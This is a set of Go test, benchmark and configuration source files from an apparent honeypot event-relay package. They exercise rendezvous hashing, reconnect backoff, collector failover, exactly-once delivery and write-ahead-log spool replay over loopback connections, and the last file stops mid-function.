package relay

import (
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/wire"
)

// --- rendezvous hashing -------------------------------------------------

// farmNames generates n distinct synthetic farm names.
func farmNames(n int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprintf("farm-%04d", i)
	}
	return names
}

// TestRankEndpointsDeterminism pins the ranking for fixed inputs: the
// score is a documented FNV-1a construction, so every process — today's
// and next release's — must produce exactly this order, or farms and
// operator tooling would disagree about who forwards where.
func TestRankEndpointsDeterminism(t *testing.T) {
	addrs := []string{"collector-a:9000", "collector-b:9000", "collector-c:9000", "collector-d:9000"}
	want := map[string][]string{
		"farm-eu-1": {"collector-d:9000", "collector-b:9000", "collector-c:9000", "collector-a:9000"},
		"farm-us-2": {"collector-d:9000", "collector-b:9000", "collector-c:9000", "collector-a:9000"},
		"farm-ap-3": {"collector-c:9000", "collector-d:9000", "collector-b:9000", "collector-a:9000"},
	}
	for farm, exp := range want {
		got := RankEndpoints(farm, addrs)
		if len(got) != len(exp) {
			t.Fatalf("%s: got %v, want %v", farm, got, exp)
		}
		for i := range exp {
			if got[i] != exp[i] {
				t.Fatalf("%s: got %v, want %v", farm, got, exp)
			}
		}
	}
	// Input order must not matter (only the (farm, addr) bytes do).
	shuffled := []string{"collector-c:9000", "collector-a:9000", "collector-d:9000", "collector-b:9000"}
	got := RankEndpoints("farm-eu-1", shuffled)
	for i, a := range want["farm-eu-1"] {
		if got[i] != a {
			t.Fatalf("shuffled input changed the ranking: got %v", got)
		}
	}
}

// TestRankEndpointsStability proves the minimal-disruption property:
// removing one collector only remaps the farms that ranked it first —
// every other farm keeps its choice, and in fact its whole failover
// order (minus the removed entry).
func TestRankEndpointsStability(t *testing.T) {
	addrs := make([]string, 8)
	for i := range addrs {
		addrs[i] = fmt.Sprintf("10.0.0.%d:9000", i+1)
	}
	farms := farmNames(1000)

	before := make(map[string][]string, len(farms))
	for _, farm := range farms {
		before[farm] = RankEndpoints(farm, addrs)
	}

	removed := addrs[3]
	var survivors []string
	for _, a := range addrs {
		if a != removed {
			survivors = append(survivors, a)
		}
	}
	remapped := 0
	for _, farm := range farms {
		after := RankEndpoints(farm, survivors)
		if before[farm][0] == removed {
			remapped++
		} else if after[0] != before[farm][0] {
			t.Fatalf("farm %s: first choice moved %s -> %s though %s was not removed",
				farm, before[farm][0], after[0], removed)
		}
		// The full order must be the old order with the removed entry
		// deleted: scores are independent per (farm, addr) pair.
		var expect []string
		for _, a := range before[farm] {
			if a != removed {
				expect = append(expect, a)
			}
		}
		for i := range expect {
			if after[i] != expect[i] {
				t.Fatalf("farm %s: order changed beyond the removal:\n got %v\nwant %v", farm, after, expect)
			}
		}
	}
	if remapped == 0 {
		t.Fatal("no farm had chosen the removed collector — the spread test should have caught this")
	}
}

// TestRankEndpointsSpread checks 1k farms split roughly evenly across 8
// collectors: each should get ~125; a bound of [62, 250] is ~6 sigma,
// so a failure means the hash is biased, not that the dice were unkind.
func TestRankEndpointsSpread(t *testing.T) {
	addrs := make([]string, 8)
	for i := range addrs {
		addrs[i] = fmt.Sprintf("10.0.0.%d:9000", i+1)
	}
	counts := map[string]int{}
	for _, farm := range farmNames(1000) {
		counts[RankEndpoints(farm, addrs)[0]]++
	}
	for _, a := range addrs {
		if c := counts[a]; c < 62 || c > 250 {
			t.Errorf("collector %s chosen by %d/1000 farms, want ~125 (bounds [62, 250])", a, c)
		}
	}
}

// --- backoff regression -------------------------------------------------

// ackless listens and plays a collector that accepts TCP and reads the
// HELLO and frames, but never acks — the shape of an auth-skewed or
// half-dead collector. With closeAfter > 0 each connection is cut after
// reading that many frames (accept-then-reject); with 0 connections
// stay open silently. frames counts wire frames read (HELLO included).
type ackless struct {
	ln         net.Listener
	closeAfter int
	frames     atomic.Int64
	mu         sync.Mutex
	conns      []net.Conn
	wg         sync.WaitGroup
}

func startAckless(t *testing.T, closeAfter int) *ackless {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a := &ackless{ln: ln, closeAfter: closeAfter}
	a.wg.Add(1)
	go func() {
		defer a.wg.Done()
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			a.mu.Lock()
			a.conns = append(a.conns, conn)
			a.mu.Unlock()
			a.wg.Add(1)
			go func() {
				defer a.wg.Done()
				read := 0
				for {
					if _, err := wire.ReadFrame(conn, DefaultMaxFrame); err != nil {
						return
					}
					a.frames.Add(1)
					read++
					if a.closeAfter > 0 && read >= a.closeAfter {
						conn.Close()
						return
					}
				}
			}()
		}
	}()
	return a
}

func (a *ackless) addr() string { return a.ln.Addr().String() }

func (a *ackless) stop() {
	a.ln.Close()
	a.mu.Lock()
	for _, c := range a.conns {
		c.Close()
	}
	a.mu.Unlock()
	a.wg.Wait()
}

// TestBackoffResetOnlyAfterAck is the regression test for the reconnect
// backoff bug: a successful dial used to reset the backoff to the
// floor, so a collector that accepted TCP (and even read frames) but
// never acked was redialed at MinBackoff forever. The fix resets only
// after the first acked frame on a connection.
func TestBackoffResetOnlyAfterAck(t *testing.T) {
	// Each connection is cut right after the HELLO is read: dial
	// succeeds, nothing is ever acked.
	fake := startAckless(t, 1)
	defer fake.stop()

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{fake.addr()}, Token: "tok", Farm: "backoff",
		FrameEvents: 4,
		MinBackoff:  20 * time.Millisecond, MaxBackoff: 400 * time.Millisecond,
		WriteTimeout: 200 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	if err := fwd.RecordBatch(testEvents(4)); err != nil {
		t.Fatal(err)
	}
	// Each connection: dial, HELLO, one frame written, silence, and —
	// since the fake never acks — the write deadline or our kill cuts
	// it. Give the sink 700ms; an exponential backoff from 20ms fits at
	// most ~8 dials in that window, while the buggy floor-rate loop
	// managed 30+.
	time.Sleep(700 * time.Millisecond)
	st := fwd.Stats()
	if st.Dials > 12 {
		t.Fatalf("%d dials against an ackless collector in 700ms — backoff reset on dial, not on ack (stats %+v)", st.Dials, st)
	}
	if st.EventsAcked != 0 {
		t.Fatalf("ackless collector acked %d events?", st.EventsAcked)
	}
	if got := st.Endpoints[0].Backoff; got <= 20*time.Millisecond {
		t.Fatalf("endpoint backoff = %v after ackless connections, want > MinBackoff", got)
	}

	// A collector that actually acks earns the reset: take over the
	// same address and serve for real.
	addr := fake.addr()
	fake.stop()
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("could not rebind %s: %v", addr, err)
	}
	go coll.Serve(ln)
	defer coll.Close()

	waitFor(t, 5*time.Second, func() bool { return sink.len() == 4 }, "delivery once the collector acks")
	waitFor(t, 2*time.Second, func() bool {
		return fwd.Stats().Endpoints[0].Backoff == 20*time.Millisecond
	}, "backoff reset after the first acked frame")
}

// --- failover, pinning, failback ---------------------------------------

// pickFarmFor returns a farm name whose rendezvous ranking puts target
// first among addrs — so tests control which collector a farm chooses
// even though test listeners bind random ports.
func pickFarmFor(t *testing.T, target string, addrs []string) string {
	t.Helper()
	for i := 0; i < 10000; i++ {
		farm := fmt.Sprintf("farm-pick-%d", i)
		if RankEndpoints(farm, addrs)[0] == target {
			return farm
		}
	}
	t.Fatal("no farm name ranks the target first — rendezvous spread is broken")
	return ""
}

// eventKeys dedups events by their identifying payload.
func eventKeys(t *testing.T, evs []core.Event) map[string]int {
	t.Helper()
	keys := make(map[string]int, len(evs))
	for _, e := range evs {
		keys[e.User]++
	}
	return keys
}

// TestForwardPinningExactlyOnce drives the cross-collector duplicate
// scenario deterministically: collector A receives a frame but its ack
// never arrives (the ingested-but-unacked window a SIGKILL opens), the
// farm fails over to B — and must NOT retransmit that frame to B,
// because A may have ingested it. The frame stays pinned to A and
// drains when A returns; every event lands on exactly one collector.
func TestForwardPinningExactlyOnce(t *testing.T) {
	fakeA := startAckless(t, 0)
	sinkB := &memSink{}
	collB, err := NewCollector(CollectorOptions{Token: "tok"}, sinkB)
	if err != nil {
		t.Fatal(err)
	}
	addrB, stopB := startCollector(t, collB)
	defer stopB()

	addrA := fakeA.addr()
	addrs := []string{addrA, addrB}
	farm := pickFarmFor(t, addrA, addrs)

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: addrs, Token: "tok", Farm: farm,
		FrameEvents: 4,
		MinBackoff:  5 * time.Millisecond, MaxBackoff: 50 * time.Millisecond,
		FailbackInterval: 30 * time.Millisecond,
		WriteTimeout:     500 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	// Frame 1 goes to A (rank 0), which reads it and goes silent.
	if err := fwd.RecordBatch(testEvents(4)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return fakeA.frames.Load() >= 2 }, "fake collector read HELLO + frame 1")
	fakeA.stop() // the SIGKILL: connection dies, ack never sent

	// Wait until the farm has observed the cut and is serving B: an
	// event recorded before then can legitimately be written into A's
	// dying socket (and so be pinned to A — A may have read it).
	waitFor(t, 5*time.Second, func() bool {
		st := fwd.Stats()
		return st.Connected && len(st.Endpoints) == 2 && st.Endpoints[1].Current
	}, "failover to B observed")

	// Frame 2: the farm is on B, which must see ONLY frame 2 — frame 1
	// is pinned to A.
	batch2 := make([]core.Event, 4)
	for i := range batch2 {
		batch2[i] = testEvent(100 + i)
	}
	if err := fwd.RecordBatch(batch2); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return sinkB.len() == 4 }, "frame 2 delivered to the failover collector")
	for _, e := range sinkB.snapshot() {
		if k := eventKeys(t, batch2); k[e.User] == 0 {
			t.Fatalf("collector B received pinned event %q — cross-collector retransmit of a possibly-ingested frame", e.User)
		}
	}
	st := fwd.Stats()
	if st.SpoolFrames != 1 || st.Endpoints[0].PinnedFrames != 1 {
		t.Fatalf("want exactly frame 1 pinned to rank 0: %+v", st)
	}
	if st.Failovers == 0 {
		t.Fatal("failover to B not counted")
	}

	// A returns (same address, now a real collector): the failback probe
	// finds it and the pinned frame drains there — nowhere else.
	sinkA := &memSink{}
	collA, err := NewCollector(CollectorOptions{Token: "tok"}, sinkA)
	if err != nil {
		t.Fatal(err)
	}
	lnA, err := net.Listen("tcp", addrA)
	if err != nil {
		t.Skipf("could not rebind %s: %v", addrA, err)
	}
	go collA.Serve(lnA)
	defer collA.Close()

	waitFor(t, 10*time.Second, func() bool { return sinkA.len() == 4 }, "pinned frame drained to its owner")
	fwd.Flush()
	gotA, gotB := eventKeys(t, sinkA.snapshot()), eventKeys(t, sinkB.snapshot())
	want := eventKeys(t, append(testEvents(4), batch2...))
	for user, n := range want {
		if gotA[user]+gotB[user] != n {
			t.Fatalf("event %q: %d on A + %d on B, want exactly %d", user, gotA[user], gotB[user], n)
		}
	}
	if st := fwd.Stats(); st.SpoolFrames != 0 || st.EventsAcked != 8 {
		t.Fatalf("after drain: %+v", st)
	}
}

// TestForwardFailoverLossless floods a two-collector tier, kills the
// farm's chosen collector mid-flood, and checks the accounting
// invariant across the cutover and the restart: every enqueued event is
// acked by exactly one collector.
func TestForwardFailoverLossless(t *testing.T) {
	sink1, sink2 := &memSink{}, &memSink{}
	coll1, err := NewCollector(CollectorOptions{Token: "tok"}, sink1)
	if err != nil {
		t.Fatal(err)
	}
	coll2, err := NewCollector(CollectorOptions{Token: "tok"}, sink2)
	if err != nil {
		t.Fatal(err)
	}
	addr1, stop1 := startCollector(t, coll1)
	addr2, stop2 := startCollector(t, coll2)
	defer stop2()

	addrs := []string{addr1, addr2}
	farm := pickFarmFor(t, addr1, addrs)
	sinks := map[string]*memSink{addr1: sink1, addr2: sink2}
	colls := map[string]*Collector{addr1: coll1, addr2: coll2}

	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: addrs, Token: "tok", Farm: farm,
		Block:       true, // lossless: measure delivery, not shedding
		FrameEvents: 16,
		MinBackoff:  time.Millisecond, MaxBackoff: 20 * time.Millisecond,
		FailbackInterval: 25 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer fwd.Close()

	const total = 2000
	killAt := total / 3 / 10 * 10
	restartAt := 2 * total / 3 / 10 * 10
	var restart func()
	for i := 0; i < total; i += 10 {
		batch := make([]core.Event, 10)
		for j := range batch {
			batch[j] = testEvent(i + j)
		}
		if err := fwd.RecordBatch(batch); err != nil {
			t.Fatal(err)
		}
		if i == killAt {
			// Make sure the chosen collector has actually ingested
			// before the kill, so the cutover exercises failover of a
			// live connection rather than a never-connected endpoint.
			waitFor(t, 10*time.Second, func() bool { return sinks[addr1].len() > 0 }, "chosen collector ingesting before the kill")
			stop1() // SIGKILL-shaped: conns die, unacked frames stay pinned
		}
		if i == restartAt && restart == nil {
			// Bring the chosen collector back on the same address; its
			// dedup state survived Close, so pinned replays are absorbed.
			ln, err := net.Listen("tcp", addr1)
			if err != nil {
				t.Fatalf("rebind %s: %v", addr1, err)
			}
			done := make(chan error, 1)
			go func() { done <- colls[addr1].Serve(ln) }()
			restart = func() {
				colls[addr1].Close()
				<-done
			}
		}
	}
	if restart != nil {
		defer restart()
	}

	waitFor(t, 20*time.Second, func() bool {
		return sinks[addr1].len()+sinks[addr2].len() >= total
	}, "all events delivered across the tier")
	fwd.Flush()

	got := eventKeys(t, append(sinks[addr1].snapshot(), sinks[addr2].snapshot()...))
	for i := 0; i < total; i++ {
		if n := got[fmt.Sprintf("user%d", i)]; n != 1 {
			t.Fatalf("event user%d delivered %d times, want exactly once", i, n)
		}
	}
	st := fwd.Stats()
	if st.EventsAcked != total || st.Shed != 0 {
		t.Fatalf("acked=%d shed=%d, want %d/0: %+v", st.EventsAcked, st.Shed, total, st)
	}
	if st.Failovers == 0 {
		t.Fatal("killing the chosen collector mid-flood produced no failover")
	}
	if sinks[addr2].len() == 0 {
		t.Fatal("failover collector received nothing — the farm never cut over")
	}
}

// --- benchmark ----------------------------------------------------------

// BenchmarkRelayMultiCollector measures aggregate acked events/s across
// a collector tier. collectors=N runs 4 farms (names picked so
// rendezvous spreads them round-robin over the tier) flooding
// concurrently; failover runs 1 farm against 3 collectors and kills and
// restarts the chosen one mid-run, so the number covers the cutover
// path, not just the happy path.
func BenchmarkRelayMultiCollector(b *testing.B) {
	const batch = 256

	startColl := func(b *testing.B) (string, *Collector, io.Closer) {
		b.Helper()
		coll, err := NewCollector(CollectorOptions{Token: "bench"}, &memSink{})
		if err != nil {
			b.Fatal(err)
		}
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			b.Fatal(err)
		}
		go coll.Serve(ln)
		return ln.Addr().String(), coll, ln
	}

	// benchFarmFor mirrors pickFarmFor for benchmarks. Names must be
	// unique per forwarder — two forwarders claiming one farm name at a
	// collector fight over the session epoch and kill each other's
	// connections — so used names are skipped.
	used := make(map[string]bool)
	benchFarmFor := func(b *testing.B, target string, addrs []string) string {
		b.Helper()
		for i := 0; i < 10000; i++ {
			farm := fmt.Sprintf("bench-farm-%d", i)
			if !used[farm] && RankEndpoints(farm, addrs)[0] == target {
				used[farm] = true
				return farm
			}
		}
		b.Fatal("no unused farm name ranks the target first")
		return ""
	}

	for _, nc := range []int{1, 3} {
		b.Run(fmt.Sprintf("collectors=%d", nc), func(b *testing.B) {
			addrs := make([]string, nc)
			colls := make([]*Collector, nc)
			for i := 0; i < nc; i++ {
				var closer io.Closer
				addrs[i], colls[i], closer = startColl(b)
				defer closer.Close()
				defer colls[i].Close()
			}
			const nfarms = 4
			fwds := make([]*ForwardSink, nfarms)
			for i := range fwds {
				farm := benchFarmFor(b, addrs[i%nc], addrs)
				fwd, err := NewForwardSink(ForwardOptions{
					Addrs: addrs, Token: "bench", Farm: farm, Block: true,
				})
				if err != nil {
					b.Fatal(err)
				}
				fwds[i] = fwd
				defer fwd.Close()
			}
			events := testEvents(batch)
			b.ResetTimer()
			var wg sync.WaitGroup
			for _, fwd := range fwds {
				wg.Add(1)
				go func(f *ForwardSink) {
					defer wg.Done()
					for i := 0; i < b.N; i++ {
						_ = f.RecordBatch(events)
					}
					f.Flush()
				}(fwd)
			}
			wg.Wait()
			b.StopTimer()
			total := float64(b.N) * batch * nfarms
			b.ReportMetric(total/b.Elapsed().Seconds(), "events/s")
		})
	}

	b.Run("failover", func(b *testing.B) {
		const nc = 3
		addrs := make([]string, nc)
		colls := make([]*Collector, nc)
		closers := make([]io.Closer, nc)
		for i := 0; i < nc; i++ {
			addrs[i], colls[i], closers[i] = startColl(b)
			defer colls[i].Close()
		}
		farm := benchFarmFor(b, addrs[0], addrs)
		fwd, err := NewForwardSink(ForwardOptions{
			Addrs: addrs, Token: "bench", Farm: farm, Block: true,
			MinBackoff: time.Millisecond, MaxBackoff: 20 * time.Millisecond,
			FailbackInterval: 20 * time.Millisecond,
		})
		if err != nil {
			b.Fatal(err)
		}
		defer fwd.Close()

		events := testEvents(batch)
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if b.N >= 4 && i == b.N/3 {
				// Kill the chosen collector mid-flood — but only after
				// it has acked something, so the cutover is a failover
				// of a served connection, not a never-connected dial.
				for wait := 0; fwd.Stats().EventsAcked == 0 && wait < 2000; wait++ {
					time.Sleep(time.Millisecond)
				}
				closers[0].Close()
				colls[0].Close()
			}
			if b.N >= 4 && i == 2*b.N/3 {
				// ...and bring it back — but only once the cutover has
				// actually happened (the enqueue loop runs far faster
				// than failure detection), so the measured run always
				// includes one real failover and one failback.
				for wait := 0; fwd.Stats().Failovers == 0 && wait < 2000; wait++ {
					time.Sleep(time.Millisecond)
				}
				ln, err := net.Listen("tcp", addrs[0])
				if err != nil {
					b.Fatalf("rebind: %v", err)
				}
				closers[0] = ln
				go colls[0].Serve(ln)
			}
			_ = fwd.RecordBatch(events)
		}
		fwd.Flush()
		b.StopTimer()
		for _, c := range closers {
			c.Close()
		}
		total := float64(b.N) * batch
		b.ReportMetric(total/b.Elapsed().Seconds(), "events/s")
		b.ReportMetric(float64(fwd.Stats().Failovers), "failovers")
	})
}
