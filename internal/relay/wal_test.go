package relay

import (
	"net"
	"path/filepath"
	"testing"
	"time"

	"decoydb/internal/wal"
)

// These tests cover the durable spool: a forwarder whose retransmission
// buffer is backed by internal/wal survives being torn down and rebuilt
// over the same directory, and the collector's cross-epoch dedup keeps
// the replay from ever double-counting.

func openSpool(t testing.TB, dir string) *wal.Log {
	t.Helper()
	l, err := wal.Open(wal.Options{Dir: dir, Sync: wal.SyncBatch})
	if err != nil {
		t.Fatalf("open spool WAL: %v", err)
	}
	return l
}

// TestSpoolWALRestartResumes is the farm-crash drill: a forwarder that
// never reached the collector is torn down, a second forwarder process
// adopts the same spool directory, and every event lands at the
// collector exactly once — including the unframed tail that was still
// pending at teardown.
func TestSpoolWALRestartResumes(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "spool")

	// A listener that accepts nothing: the first forwarder can dial but
	// never completes delivery, so everything stays spooled.
	dead, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	deadAddr := dead.Addr().String()
	dead.Close()

	w1 := openSpool(t, dir)
	fwd1, err := NewForwardSink(ForwardOptions{
		Addrs: []string{deadAddr}, Token: "tok", Farm: "durable",
		SpoolWAL: w1, FrameEvents: 32,
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	// 100 events: three full 32-event frames cut at enqueue time, plus a
	// 4-event tail that only Close journals.
	if err := fwd1.RecordBatch(testEvents(100)); err != nil {
		t.Fatal(err)
	}
	if err := fwd1.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w1.Close(); err != nil {
		t.Fatal(err)
	}
	if got := w1.Stats().AppendedBatches; got != 4 {
		t.Fatalf("spool WAL holds %d frames, want 4 (3 cut + 1 tail)", got)
	}

	// "Restart": a fresh forwarder over the same directory, now with a
	// live collector.
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "tok"}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	w2 := openSpool(t, dir)
	defer w2.Close()
	fwd2, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "durable",
		SpoolWAL: w2, FrameEvents: 32,
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if st := fwd2.Stats(); st.SpoolEvents != 100 || st.SpoolFrames != 4 {
		t.Fatalf("reloaded spool = %d events / %d frames, want 100/4", st.SpoolEvents, st.SpoolFrames)
	}
	waitFor(t, 5*time.Second, func() bool { return sink.len() == 100 }, "replayed spool delivery")

	// The restarted forwarder keeps working past the replayed tail.
	if err := fwd2.RecordBatch(testEvents(40)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return sink.len() == 140 }, "post-restart delivery")
	fwd2.Flush()
	if err := fwd2.Close(); err != nil {
		t.Fatal(err)
	}

	if got := sink.len(); got != 140 {
		t.Fatalf("collector sink has %d events, want exactly 140", got)
	}
	cst := coll.Stats()
	if cst.DupEvents != 0 {
		t.Fatalf("clean restart produced %d duplicate events", cst.DupEvents)
	}
	if len(cst.Farms) != 1 || !cst.Farms[0].Durable {
		t.Fatalf("farm not marked durable: %+v", cst.Farms)
	}
	// Acks were persisted: the spool is fully marked, so a third process
	// would replay nothing.
	if mark, last := w2.Mark(), w2.LastSeq(); mark != last {
		t.Fatalf("spool mark = %d, LastSeq = %d — acked frames would replay", mark, last)
	}
}

// TestDurableCrossEpochDedup is the crash-window drill: frames the
// collector ingested but whose ack never reached the old farm process
// are replayed by the new process under a fresh epoch. Because the farm
// is durable, the collector must keep its sequence high-water mark
// across the epoch change and classify the replay as duplicates — then
// accept the next fresh sequence.
func TestDurableCrossEpochDedup(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "spool")

	// Fabricate the crashed farm's spool: two journaled frames, no mark
	// (the acks never made it back).
	w1 := openSpool(t, dir)
	if _, err := w1.Append(testEvents(8), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := w1.Append(testEvents(8)[4:], nil); err != nil {
		t.Fatal(err)
	}
	if err := w1.Close(); err != nil {
		t.Fatal(err)
	}

	// The collector already ingested seq 1..2 under the old session; its
	// restored mark says so (CollectorOptions.Farms is exactly what
	// dbcollect rebuilds from its own journal on reopen).
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{
		Token: "tok",
		Farms: map[string]FarmMark{"durable": {Epoch: 0xABCD, LastSeq: 2}},
	}, sink)
	if err != nil {
		t.Fatal(err)
	}
	addr, stop := startCollector(t, coll)
	defer stop()

	w2 := openSpool(t, dir)
	defer w2.Close()
	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{addr}, Token: "tok", Farm: "durable",
		SpoolWAL:   w2,
		MinBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	// The replayed frames (seq 1..2) must be acked as duplicates, never
	// ingested; the forwarder's spool must drain on those acks.
	waitFor(t, 5*time.Second, func() bool { return fwd.Stats().SpoolFrames == 0 }, "dup replay acked")
	if got := sink.len(); got != 0 {
		t.Fatalf("collector re-ingested %d replayed events", got)
	}

	// Fresh traffic continues the durable sequence space at seq 3.
	if err := fwd.RecordBatch(testEvents(5)); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 5*time.Second, func() bool { return sink.len() == 5 }, "post-replay delivery")
	fwd.Flush()
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}

	cst := coll.Stats()
	if cst.DupFrames != 2 || cst.DupEvents != 12 {
		t.Fatalf("dup accounting = %d frames / %d events, want 2/12", cst.DupFrames, cst.DupEvents)
	}
	if cst.Events != 5 {
		t.Fatalf("ingested %d events, want 5", cst.Events)
	}
	if len(cst.Farms) != 1 || cst.Farms[0].LastSeq != 3 || !cst.Farms[0].Durable {
		t.Fatalf("farm state after replay: %+v", cst.Farms)
	}
}

// TestSourceTagRoundTrip covers the provenance annotation a durable
// collector journals with each ingested batch.
func TestSourceTagRoundTrip(t *testing.T) {
	tag := EncodeSourceTag("farm-9", 0xDEAD, 42)
	farm, epoch, seq, ok := DecodeSourceTag(tag)
	if !ok || farm != "farm-9" || epoch != 0xDEAD || seq != 42 {
		t.Fatalf("round trip = (%q, %#x, %d, %v)", farm, epoch, seq, ok)
	}
	for _, bad := range [][]byte{nil, {}, {1}, tag[:len(tag)-1], append(append([]byte(nil), tag...), 0)} {
		if _, _, _, ok := DecodeSourceTag(bad); ok {
			t.Fatalf("DecodeSourceTag accepted %v", bad)
		}
	}
}

// BenchmarkRelayThroughputWAL is BenchmarkRelayThroughput with the
// spool journaled to disk (interval fsync): the cost of durable
// forwarding over loopback TCP.
func BenchmarkRelayThroughputWAL(b *testing.B) {
	sink := &memSink{}
	coll, err := NewCollector(CollectorOptions{Token: "bench"}, sink)
	if err != nil {
		b.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	go coll.Serve(ln)
	defer coll.Close()

	w, err := wal.Open(wal.Options{Dir: b.TempDir()})
	if err != nil {
		b.Fatal(err)
	}
	defer w.Close()
	fwd, err := NewForwardSink(ForwardOptions{
		Addrs: []string{ln.Addr().String()}, Token: "bench", Farm: "bench",
		Block:    true,
		SpoolWAL: w,
	})
	if err != nil {
		b.Fatal(err)
	}
	defer fwd.Close()

	const batch = 256
	events := testEvents(batch)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := fwd.RecordBatch(events); err != nil {
			b.Fatal(err)
		}
	}
	fwd.Flush()
	b.StopTimer()
	total := float64(b.N) * batch
	b.ReportMetric(total/b.Elapsed().Seconds(), "events/s")
}
