package relay

import (
	crand "crypto/rand"
	"encoding/binary"
	"fmt"
	"math/rand"
	"net"
	"net/netip"
	"sort"
	"strings"
	"sync"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/wal"
	"decoydb/internal/wire"
)

// ForwardOptions configure a ForwardSink. Addr and Token are required.
type ForwardOptions struct {
	// Addr is the collector's host:port.
	Addr string
	// Token is the shared secret presented in the HELLO frame.
	Token string
	// Farm names this forwarder in the collector's dedup and stats
	// tables. Defaults to "farm". Two live farms must use distinct names
	// or their sequence spaces collide.
	Farm string

	// Block, when set, makes RecordBatch wait for spool space instead of
	// shedding — the lossless choice for forwarding a finite capture
	// (cmd/dbsim). A live farm leaves it unset: a collector outage must
	// cost bounded memory, not stalled honeypot sessions.
	Block bool

	// FrameEvents is the target events per frame; pending events are cut
	// into a frame when they reach it (or earlier, whenever the writer is
	// idle). 0 means DefaultFrameEvents; values above DefaultMaxBatchEvents
	// are clamped — a default-configured collector rejects larger frames.
	FrameEvents int
	// MaxFrame and MaxRaw are the wire limits frames are validated
	// against at encode time; they must be no larger than the
	// collector's MaxFrame / Limits.MaxRaw or the collector will reject
	// the frames. A batch that encodes past either bound is split in
	// half until it fits; a single event that cannot fit alone is shed
	// with attribution. Zero values mean the package defaults.
	MaxFrame int
	MaxRaw   int
	// MaxFrameRetries drops a spooled frame after it has been written on
	// this many connections without ever being acked — the signature of
	// a frame the collector rejects at decode (limits skew between the
	// two ends). The drop is counted in Stats (DroppedFrames, and the
	// events as Shed) and surfaces via Err. 0 means
	// DefaultMaxFrameRetries.
	MaxFrameRetries int
	// SpoolFrames caps encoded frames buffered while unacked. 0 means
	// DefaultSpoolFrames.
	SpoolFrames int
	// SpoolBytes caps the wire bytes those frames occupy. 0 means
	// DefaultSpoolBytes.
	SpoolBytes int64

	// SpoolWAL, when non-nil, backs the retransmission spool with a
	// durable log: every cut frame is journaled before it is spooled,
	// collector acks are persisted as marks (and compact the log), and a
	// restarted forwarder reloads every unacked frame from disk and
	// resumes retransmission under a fresh epoch — so a farm crash costs
	// nothing that was already framed. Frame sequence numbers are the
	// WAL's sequence numbers, which survive restarts; the HELLO
	// advertises this (durable flag) so the collector dedups on sequence
	// across epochs. The log must be exclusively owned by this sink
	// while it is open (its sequence space is the frame sequence space);
	// the caller retains ownership for Close.
	SpoolWAL *wal.Log

	// CompressionLevel is the compress/flate level for batch payloads.
	// 0 means flate.BestSpeed.
	CompressionLevel int

	// DialTimeout, WriteTimeout and FlushTimeout bound connection
	// attempts, single frame writes, and Flush respectively. Zero values
	// take the package defaults.
	DialTimeout  time.Duration
	WriteTimeout time.Duration
	FlushTimeout time.Duration
	// MinBackoff/MaxBackoff bound the jittered exponential reconnect
	// backoff. Zero values take the package defaults.
	MinBackoff time.Duration
	MaxBackoff time.Duration

	// MaxShedSources bounds the per-source shed-accounting table; sheds
	// beyond it count as unattributed (totals stay exact). 0 means
	// DefaultMaxShedSources.
	MaxShedSources int
	// TopShedders is the length of Stats.Shedders. 0 means
	// DefaultTopShedders.
	TopShedders int

	// Logf, when non-nil, receives operational diagnostics (reconnects,
	// write failures).
	Logf func(format string, args ...any)
}

// Defaults for ForwardOptions.
const (
	DefaultFrameEvents     = 512
	DefaultSpoolFrames     = 1024
	DefaultSpoolBytes      = 64 << 20
	DefaultDialTimeout     = 5 * time.Second
	DefaultWriteTimeout    = 10 * time.Second
	DefaultFlushTimeout    = 5 * time.Second
	DefaultMinBackoff      = 100 * time.Millisecond
	DefaultMaxBackoff      = 5 * time.Second
	DefaultMaxShedSources  = 4096
	DefaultTopShedders     = 8
	DefaultMaxFrameRetries = 8
)

func (o ForwardOptions) withDefaults() ForwardOptions {
	if o.Farm == "" {
		o.Farm = "farm"
	}
	if o.FrameEvents <= 0 {
		o.FrameEvents = DefaultFrameEvents
